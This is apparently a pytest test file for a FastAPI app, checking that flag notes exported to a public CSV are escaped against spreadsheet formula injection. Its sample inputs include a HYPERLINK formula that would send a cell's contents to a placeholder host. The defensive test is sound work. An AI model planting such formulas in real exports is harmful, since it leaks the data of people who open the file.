"""Formula injection through a flag note (issue 25, defect 9): a note is the public's to download in
`/kualitas.csv`; a note typed as `=HYPERLINK(...)` (or starting with + - @, a tab or a CR) arrives
there as text, prefixed with `'` (OWASP), never as a live formula. JSON keeps the note as typed."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from capaian.web import create_app
from web_support import SEED_CUTOFF, csrf_of, fresh_db, login

NOTES = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62 811 0000", "-1+2", "@SUM(A1:A9)",
         "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def national(tmp_path_factory):
    app = create_app(fresh_db(tmp_path_factory.mktemp("inject")), secret="inject-secret", warm=False)
    client = TestClient(app, follow_redirects=False)
    assert login(client, "nasional").status_code == 303
    return client


@pytest.mark.parametrize("note", NOTES)
def test_a_formula_in_a_flag_note_is_text_in_the_csv(national, note):
    flags = national.get("/kualitas.json", params={"cutoff": SEED_CUTOFF}).json()["flags"]
    flag = flags[NOTES.index(note) % len(flags)]
    token = csrf_of(national.get("/kualitas").text)
    r = national.post("/kualitas/catatan", data={"csrf_token": token, "key": flag["key"], "note": note})
    assert r.status_code == 303
    shown = [f for f in national.get("/kualitas.json", params={"cutoff": SEED_CUTOFF}).json()["flags"]
             if f["key"] == flag["key"]][0]
    typed = shown["explained"]["note"]  # the note as stored (a note's surrounding spaces may be trimmed)
    assert typed.strip() == note.strip()
    text = national.get("/kualitas.csv", params={"cutoff": SEED_CUTOFF}).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row.values() if cell and typed.strip() in cell]
    assert cells, text[:500]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
